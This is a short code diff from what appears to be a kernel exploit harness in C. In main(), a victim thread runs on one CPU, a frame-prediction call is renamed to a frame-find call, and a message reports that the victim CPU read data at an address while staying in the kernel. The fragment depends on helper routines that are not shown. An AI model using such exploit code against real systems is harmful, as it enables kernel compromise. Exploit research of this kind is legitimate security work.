@@ -26,7 +26,7 @@ int main(void)
 	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
 
-	attack_frame_predict(&leak, &frame);
+	attack_frame_find(&leak, &frame);
 	attack_tell(&stage, STAGE_CALL);
 	attack_await_parked(1);
 	attack_say("CPU %d has read it at 0x%lx, and stays in the kernel", CPU_OF_VICTIM,
